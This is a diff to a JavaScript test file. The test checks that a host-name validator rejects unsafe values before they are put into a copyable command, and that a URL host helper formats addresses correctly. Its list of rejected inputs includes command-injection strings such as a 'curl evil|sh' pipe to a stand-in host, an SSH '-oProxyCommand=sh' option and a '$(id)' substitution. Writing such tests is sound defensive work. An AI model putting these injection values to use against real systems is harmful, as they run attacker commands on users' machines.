@@ -40,7 +40,11 @@ test('the page talks plain ws:// to loopback only', async () => {
 test('only a plain host name or address goes into a command to copy', async () => {
   const { isPlainHost } = await import('../src/lib/format.js');
   for (const ok of ['127.0.0.1', 'gpu-1.example.net', 'localhost', '::1', '2001:db8::7']) assert.ok(isPlainHost(ok), ok);
-  for (const bad of ['x; curl evil|sh #', '-oProxyCommand=sh', 'a b', 'host\u202Egro.', '', 'a..b', 'exa$(id)mple.net', '-host']) {
+  for (const bad of ['x; curl evil|sh #', '-oProxyCommand=sh', 'a b', 'host\u202Egro.', '', 'a..b', 'exa$(id)mple.net', '-host',
+    '0', '2130706433', '0x7f.1', '127.1', '1.2.3.4.5', '256.1.1.1']) {
     assert.ok(!isPlainHost(bad), bad);
   }
+  const { urlHost } = await import('../src/lib/format.js');
+  assert.equal(urlHost('::1'), '[::1]');
+  assert.equal(urlHost('gpu.example'), 'gpu.example');
 });
